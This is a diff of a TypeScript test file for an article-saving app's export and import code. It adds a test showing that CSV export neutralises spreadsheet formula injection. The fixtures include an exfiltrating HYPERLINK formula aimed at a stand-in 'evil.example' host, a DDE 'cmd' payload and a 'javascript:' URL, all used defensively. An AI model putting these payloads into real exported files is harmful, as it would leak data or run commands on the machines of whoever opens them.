@@ -4,12 +4,13 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { baghdad, recipe, tehran } from '../../tests/fixtures/store/articles';
 import { archive, getArticleByUrl, listArticles, saveArticle, searchArticles, setRead, setTags } from './articles';
 import { mergeActors, renameActor, setNote } from './cards';
-import { parseCsv } from './csv';
+import Papa from 'papaparse';
 import type { DramatisDB } from './db';
 import { ImportError, QuotaError } from './errors';
 import { exportAll, exportCsv, exportMarkdown, importAll } from './export-import';
-import { importPocket, parsePocket } from './pocket';
-import { setSetting, setSiteEnabled } from './settings';
+import { importPocket, prepareImport } from './import-file';
+import { parsePocket } from './pocket';
+import { getSettings, setSetting, setSiteEnabled } from './settings';
 import { testDb } from './test-db';
 
 const fixture = (name: string) => readFileSync(new URL(`../../tests/fixtures/store/${name}`, import.meta.url), 'utf8');
@@ -31,6 +32,23 @@ async function everything(d: DramatisDB) {
   };
 }
 
+/**
+ * The same data with the ids the database assigns left out: articles by URL, card roles by their article's URL,
+ * cards by key, corrections in their order (an import never keeps the file's ids; it re-points the references).
+ */
+async function content(d: DramatisDB) {
+  const all = await everything(d);
+  const urlOf = new Map(all.articles.map((a) => [a.id, a.url]));
+  return {
+    articles: all.articles.map(({ id: _id, ...a }) => a).sort((x, y) => x.url.localeCompare(y.url)),
+    cards: all.cards
+      .map(({ id: _id, ...c }) => ({ ...c, roles: c.roles.map(({ articleId, ...r }) => ({ ...r, article: urlOf.get(articleId) })) }))
+      .sort((x, y) => x.key.localeCompare(y.key)),
+    corrections: all.corrections.map(({ id: _id, ...c }) => c),
+    settings: all.settings,
+  };
+}
+
 async function seeded() {
   db = testDb();
   const a = (await saveArticle(db, baghdad)).id;
@@ -48,17 +66,22 @@ async function seeded() {
 }
 
 describe('exportAll / importAll', () => {
-  it('export -> wipe -> import gives identical data', async () => {
+  it('export -> wipe -> import gives identical data (ids assigned here, references re-pointed; the lookup stays off)', async () => {
     await seeded();
-    const before = await everything(db);
+    const before = await content(db);
     const file = JSON.stringify(await exportAll(db));
-    await db.delete();
-    db = testDb();
+    // A cleared database (its key generators go on from where they were): the ids differ, the content must not.
+    await Promise.all(db.tables.map((t) => t.clear()));
+    const plan = prepareImport(file);
+    expect(plan.notes).toEqual([expect.stringMatching(/^The Wikipedia lookup is on in this file; here it stays off/)]);
     const progress: number[] = [];
     const result = await importAll(db, file, (done) => progress.push(done));
-    expect(await everything(db)).toEqual(before);
-    expect(result).toEqual({ articles: { added: 3, updated: 0 }, cards: { added: 5, updated: 0 }, corrections: 2, settings: 2 });
-    expect(progress.at(-1)).toBe(3 + 5 + 2 + 2);
+    const after = await content(db);
+    expect(after).toEqual({ ...before, settings: before.settings.filter((s) => s.key !== 'lookup') });
+    expect((await getSettings(db)).lookup).toBe(false);
+    expect(Math.min(...(await db.articles.toCollection().primaryKeys()))).toBeGreaterThan(3);
+    expect(result).toEqual({ articles: { added: 3, updated: 0 }, cards: { added: 5, updated: 0 }, corrections: 2, settings: 1 });
+    expect(progress.at(-1)).toBe(3 + 5 + 2 + 1);
     expect(await searchArticles(db, 'militias')).toHaveLength(1);
   });
 
@@ -102,16 +125,19 @@ describe('exportAll / importAll', () => {
     expect(await everything(db)).toEqual(before);
   });
 
-  it('rejects a file with one bad record deep inside, naming it, and writes none of the good ones', async () => {
+  it('skips a bad record deep inside, naming it in the preview, and imports the good ones', async () => {
     await seeded();
     const file = await exportAll(db);
     other = testDb();
     const bad = structuredClone(file);
     (bad.articles[2] as any).url = 'javascript:alert(1)';
-    const error = await importAll(other, bad).catch((e: unknown) => e);
-    expect((error as Error).message).toMatch(/articles\[2\]\.url: not an http\(s\) URL/);
-    expect(await other.articles.count()).toBe(0);
-    expect(await other.cards.count()).toBe(0);
+    const plan = prepareImport(JSON.stringify(bad));
+    expect(plan.skipped).toEqual([{ where: 'articles[2]', reason: 'url: not an http(s) URL' }]);
+    await importAll(other, bad);
+    expect(await other.articles.count()).toBe(2);
+    // The skipped article's roles do not come with its cards.
+    const ids = new Set(await other.articles.toCollection().primaryKeys());
+    for (const card of await other.cards.toArray()) expect(card.roles.every((r) => ids.has(r.articleId))).toBe(true);
   });
 
   it('a quota error in the middle of an import leaves nothing and throws QuotaError', async () => {
@@ -162,17 +188,47 @@ describe('exportMarkdown / exportCsv', () => {
     );
   });
 
+  it('Markdown and CSV exports never throw on a stored date a Date cannot hold', async () => {
+    db = testDb();
+    const { id } = await saveArticle(db, recipe);
+    await db.articles.update(id, { savedAt: 1e20 });
+    expect(await exportMarkdown(db)).toMatch(/saved unknown date/);
+    expect(await exportCsv(db)).toContain(',100000000000000000,');
+  });
+
   it('writes CSV with proper quoting, and reads back through the Pocket importer', async () => {
     db = testDb();
     await saveArticle(db, { ...baghdad, title: 'Quotes, "scare quotes"\nand lines', tags: ['a', 'b c'] });
     const csv = await exportCsv(db);
     expect(csv.split('\r\n')[0]).toBe('title,url,time_added,tags,status,site,byline,published,actors,claims,anonymous_claims');
     expect(csv).toContain('"Quotes, ""scare quotes""\nand lines",https://www.example-news.com/world/pompeo-baghdad?id=7,1547035200,a|b c,unread,Example News,Jane Reporter,2019-01-09T10:00:00Z,4,2,1\r\n');
-    expect(parseCsv(csv)[1][0]).toBe('Quotes, "scare quotes"\nand lines');
+    expect(Papa.parse<string[]>(csv).data[1][0]).toBe('Quotes, "scare quotes"\nand lines');
     other = testDb();
     expect(await importPocket(other, csv)).toEqual({ added: 1, updated: 0 });
     const [a] = await other.articles.toArray();
     expect([a.title, a.url, a.savedAt, a.tags]).toEqual(['Quotes, "scare quotes"\nand lines', 'https://www.example-news.com/world/pompeo-baghdad?id=7', baghdad.savedAt, ['a', 'b c']]);
+  });
+});
+
+describe('CSV formula injection', () => {
+  it('neutralises cells a spreadsheet would evaluate (=, +, -, @, tab, CR) and reads them back unchanged', async () => {
+    db = testDb();
+    const titles = ['=HYPERLINK("https://evil.example/?d="&B3,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1+1\nsecond line'];
+    for (const [i, title] of titles.entries()) {
+      const { id } = await saveArticle(db, { ...recipe, url: `https://cooking.example.net/${i}`, byline: '@handle', savedAt: Date.UTC(2020, 0, 1 + i) });
+      await db.articles.update(id, { title }); // as stored by any path (saveArticle trims a leading tab or CR)
+    }
+    const rows = Papa.parse<string[]>(await exportCsv(db), { skipEmptyLines: true }).data.slice(1);
+    for (const row of rows) {
+      // No cell of the file starts with a formula character once the CSV quoting is read.
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(rows.map((r) => r[0]).sort()).toEqual(titles.map((t) => `'${t}`).sort());
+    expect(rows.every((r) => r[6] === "'@handle")).toBe(true);
+    // The Pocket importer reads a Dramatis CSV back without the apostrophe.
+    other = testDb();
+    await importPocket(other, await exportCsv(db));
+    expect((await other.articles.toArray()).map((a) => a.title).sort()).toEqual([...titles].sort());
   });
 });
 
@@ -214,11 +270,19 @@ describe('importPocket', () => {
     expect(await searchArticles(db, 'scare')).toHaveLength(1);
   });
 
+  it('skips bad rows with their reasons (the preview shows them) and keeps the good ones', () => {
+    const plan = prepareImport('title,url,time_added\nok,https://a.example/,1546300800\nbad,notaurl,\nlater,https://b.example/,yesterday\n');
+    expect(plan.source === 'pocket' && plan.items.map((i) => i.url)).toEqual(['https://a.example/']);
+    expect(plan.skipped).toEqual([
+      { where: 'row 3', reason: 'url: not an http(s) URL ("notaurl")' },
+      { where: 'row 4', reason: expect.stringMatching(/^timeAdded: .*\("https:\/\/b\.example\/"\)$/) },
+    ]);
+  });
+
   it.each([
     ['an empty file', '', /empty/],
     ['a CSV without a url column', 'name,email\nBob,bob@example.com\n', /no "url" column/],
-    ['a bad URL on row 3', 'title,url\nok,https://a.example/\nbad,notaurl\n', /bad entry \(row 3: "notaurl"\).*not an http\(s\) URL/],
-    ['a bad time_added', 'url,time_added\nhttps://a.example/,yesterday\n', /bad entry \(row 2/],
+    ['only bad rows', 'title,url\nbad,notaurl\n', /Nothing in this file can be imported \(row 2: url: not an http\(s\) URL/],
     ['an unclosed quote', 'title,url\n"oops,https://a.example/\n', /damaged/],
     ['HTML without links', '<html><body><p>hello</p></body></html>', /No saved links/],
   ])('rejects %s and changes nothing', async (_, text, message) => {
@@ -233,7 +297,7 @@ describe('importPocket', () => {
 });
 
 describe('import: roles of articles missing from the export', () => {
-  it('are dropped when the id belongs to another article here, kept when it is free', async () => {
+  it('are dropped: an id in the file means nothing in this database', async () => {
     db = testDb();
     const a = (await saveArticle(db, baghdad)).id; // 1
     const b = (await saveArticle(db, tehran)).id; // 2
@@ -248,14 +312,11 @@ describe('import: roles of articles missing from the export', () => {
     expect([a, b, imported]).toEqual([1, 2, 3]);
     const pompeo = await other.cards.where('key').equals('person:mike pompeo').first();
     expect(pompeo!.roles.map((r) => [r.role, r.articleId])).toEqual([['Secretary of State', 3]]);
-    // Into an empty database the id is free: the card comes back as it was exported.
+    // Into an empty database too: article 2 is not in the file, so its role goes.
     await other.delete();
     other = testDb();
     await importAll(other, exported);
     const again = await other.cards.where('key').equals('person:mike pompeo').first();
-    expect(again!.roles.map((r) => [r.role, r.articleId])).toEqual([
-      ['Secretary of State', 1],
-      ['US Secretary of State', 2],
-    ]);
+    expect(again!.roles.map((r) => [r.role, r.articleId])).toEqual([['Secretary of State', 1]]);
   });
 });
